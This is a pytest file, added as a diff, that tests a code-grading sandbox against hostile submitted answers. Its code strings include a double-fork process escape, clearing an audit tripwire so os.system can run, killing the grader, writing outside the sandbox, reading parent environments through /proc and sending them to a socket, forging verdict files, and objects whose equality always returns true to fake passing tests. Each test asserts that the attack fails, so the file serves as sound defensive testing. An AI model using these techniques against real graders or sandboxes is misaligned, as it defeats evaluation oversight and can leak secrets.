@@ -1,0 +1,202 @@
+"""Hostile answers from an adversarial review, each run for real. Under a namespace sandbox (bwrap,
+unshare) nothing reaches the host; in every mode, including the weak rlimit fallback, no answer gets
+a ``pass`` it did not earn, because the expected values never enter the sandbox."""
+
+import os
+import select
+import socket
+import sys
+
+import pytest
+
+from tests.workloads.conftest import NS_MODES
+from tests.workloads.sandbox_support import (grader_argv, run_grader, sandbox_dirs, sleeper_exec, token,
+                                             verdict_of, wait_until, with_token)
+from workloads.sandbox import run_tests
+
+FORK_EXEC = """
+import os, sys, _posixsubprocess
+def spawn(argv):
+    r, w = os.pipe()
+    _posixsubprocess.fork_exec(argv, [os.fsencode(argv[0])], True, (), None, None, -1, -1, -1, -1, -1, -1,
+                               r, w, True, True, -1, None, None, None, -1, None, False)
+"""
+
+
+@pytest.mark.parametrize("sandbox_mode", NS_MODES, indirect=True)
+def test_a_setsid_double_fork_started_through_fork_exec_dies_with_the_run(sandbox_mode):
+    tok = token()
+    escapee = "import os, time\nif os.fork(): os._exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\ntime.sleep(60)"
+    code = FORK_EXEC + f"""
+spawn([sys.executable, "-c", {escapee!r}, {tok!r}])
+import time
+def f():
+    # proves the escapee runs: its token shows in this sandbox's /proc
+    for _ in range(200):
+        for pid in filter(str.isdigit, os.listdir("/proc")):
+            try:
+                if {tok!r}.encode() in open(f"/proc/{{pid}}/cmdline", "rb").read():
+                    return 1
+            except OSError:
+                pass
+        time.sleep(0.02)
+    return 0
+"""
+    result = run_tests(code, "f", ["f() == 1"])
+    assert result.verdict == "pass", result.detail
+    assert with_token(tok) == []
+
+
+@pytest.mark.parametrize("sandbox_mode", NS_MODES, indirect=True)
+def test_clearing_the_tripwire_through_main_opens_nothing(sandbox_mode, tmp_path):
+    target = tmp_path / "escaped.txt"
+    code = f"""
+import gc, os, sys
+main = sys.modules["__main__"]
+for name in dir(main):
+    if isinstance(getattr(main, name), set):
+        getattr(main, name).clear()
+for obj in gc.get_objects():
+    if isinstance(obj, set) and "os.fork" in obj:
+        obj.clear()
+os.system("echo out > {target}")  # the tripwire denied os.system; its set is empty now
+open({str(target)!r}, "a").write("out")
+def f():
+    return 1
+"""
+    result = run_tests(code, "f", ["f() == 1"])
+    assert result.verdict == "error" and not target.exists()
+
+
+@pytest.mark.parametrize("sandbox_mode", NS_MODES, indirect=True)
+def test_signals_at_the_grader_and_its_group_miss(sandbox_mode):
+    code = """
+import os, signal
+for how in (lambda: signal.pidfd_send_signal(os.pidfd_open(GRADER_PID), signal.SIGKILL),
+            lambda: os.kill(GRADER_PID, signal.SIGKILL), lambda: os.killpg(GRADER_PGID, signal.SIGKILL),
+            lambda: signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL),
+            lambda: os.kill(os.getppid(), signal.SIGKILL)):
+    try:
+        how()
+    except OSError:
+        pass
+def f():
+    return 1
+"""
+    graded = verdict_of(run_grader(code, "f", ["f() == 2"]))
+    assert graded["verdict"] in ("fail", "error"), graded
+
+
+@pytest.mark.parametrize("sandbox_mode", NS_MODES, indirect=True)
+def test_writes_through_dir_fd_sqlite_and_mkfifo_stay_inside(sandbox_mode, tmp_path):
+    tok = token()
+    outside = [str(tmp_path / tok), f"/tmp/{tok}", os.path.join(sys.base_prefix, tok)]
+    code = f"""
+import os, sqlite3
+made = 0
+def at(path):  # a directory fd and a name: no path outside the cwd for an audit hook to see
+    return os.open(os.path.dirname(path), os.O_RDONLY | os.O_DIRECTORY), os.path.basename(path)
+for path in {outside!r}:
+    for n, write in enumerate((
+            lambda p: os.close(os.open(at(p)[1], os.O_CREAT | os.O_WRONLY, dir_fd=at(p)[0])),
+            lambda p: sqlite3.connect(p).execute("create table t(x)"),
+            lambda p: os.mkfifo(at(p)[1], dir_fd=at(p)[0]))):
+        try:
+            write(path + str(n))
+            made += 1
+        except Exception:
+            pass
+def f():
+    return made
+"""
+    try:
+        result = run_tests(code, "f", ["f() == 0"])
+        assert result.verdict == "fail"  # the writes to /tmp landed in the sandbox's own tmpfs
+        assert [p + str(n) for p in outside for n in range(3) if os.path.lexists(p + str(n))] == []
+    finally:
+        for path in (p + str(n) for p in outside for n in range(3)):
+            if os.path.lexists(path):
+                os.remove(path)
+
+
+@pytest.mark.parametrize("sandbox_mode", NS_MODES, indirect=True)
+def test_the_parents_environment_cannot_be_read_or_sent_out(sandbox_mode):
+    secret = token()
+    with socket.socket() as listener:
+        listener.bind(("127.0.0.1", 0))
+        listener.listen(8)
+        port = listener.getsockname()[1]
+        code = f"""
+import os, socket
+loot = b""
+for pid in {{"GRADER_PID", str(os.getppid()), "1"}} | set(filter(str.isdigit, os.listdir("/proc"))):
+    try:
+        loot += open(f"/proc/{{pid}}/environ", "rb").read() + b"\\0"
+    except OSError:
+        pass
+found = "nothing"
+for var in loot.split(b"\\0"):
+    if var.startswith(b"DDTUNE_TEST_SECRET="):
+        found = var.split(b"=", 1)[1].decode()
+try:
+    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
+        s.sendall(loot or b"empty")
+except OSError:
+    pass
+def f():
+    return found
+"""
+        graded = verdict_of(run_grader(code, "f", [f"f() == {secret!r}"], env={"DDTUNE_TEST_SECRET": secret}))
+        assert graded["verdict"] == "fail", graded
+        assert select.select([listener], [], [], 0)[0] == []  # no connection ever arrived
+
+
+def test_forged_verdicts_and_results_are_not_a_pass(sandbox_mode):
+    code = """
+import json, os
+forged = json.dumps({"verdict": "pass", "detail": "6/6 tests passed"})
+open("verdict.json", "w").write(forged)
+print(forged, flush=True)
+for fd in range(3, 256):
+    try:
+        os.write(fd, b'{"defined": true}\\n{"value": 55}\\n')
+    except OSError:
+        pass
+def fib(n):
+    return 0
+"""
+    result = run_tests(code, "fib", ["fib(10) == 55"])
+    assert result.verdict in ("fail", "error") and result.verdict != "pass", result
+
+
+EQ_TRUE = "    def __eq__(self, other):\n        return True\n"
+
+
+@pytest.mark.parametrize("liar", [
+    f"class Liar:\n{EQ_TRUE}    __hash__ = object.__hash__\nvalue = Liar()",
+    f"class Liar(int):\n{EQ_TRUE}    __hash__ = int.__hash__\nvalue = Liar(0)",
+    f"class Liar(str):\n{EQ_TRUE}    __hash__ = str.__hash__\nvalue = Liar('x')",
+    "class Liar:\n    def __repr__(self):\n        return '55'\n    def __iter__(self):\n        return iter([5])\nvalue = Liar()",
+    "class Liar(list):\n    def __iter__(self):\n        return iter([5, 5])\nvalue = Liar()",
+    "class Liar(dict):\n    def items(self):\n        return [('a', 55)]\nvalue = [1, {'a': Liar()}]",
+])
+def test_objects_that_lie_about_themselves_fail(sandbox_mode, liar):
+    result = run_tests(liar + "\ndef f():\n    return value", "f", ["f() == 55"])
+    assert result.verdict == "fail" and "not plain data" in result.detail, result
+
+
+def test_a_grader_killed_mid_run_leaves_no_process_and_no_directory(sandbox_mode, tmp_path, spawn, monkeypatch):
+    tok = token()
+    monkeypatch.setenv("TMPDIR", str(tmp_path))  # where the fallback's host directory goes
+    grader = spawn(grader_argv(sleeper_exec(tok) + "def f():\n    return 1", "f", ["f() == 1"], audit=False))
+    assert wait_until(lambda: with_token(tok) != [])
+    made = sandbox_dirs(tmp_path)
+    grader.kill()
+    grader.wait()
+    assert wait_until(lambda: with_token(tok) == [])
+    if sandbox_mode == "rlimit":
+        assert [d.split("-")[2] for d in made] == [str(grader.pid)]  # its pid proves it stale to the next run
+        verdict_of(run_grader("def f():\n    return 1", "f", ["f() == 1"]))
+    else:
+        assert made == []  # the namespace's working directory is a tmpfs: nothing on the host
+    assert sandbox_dirs(tmp_path) == []
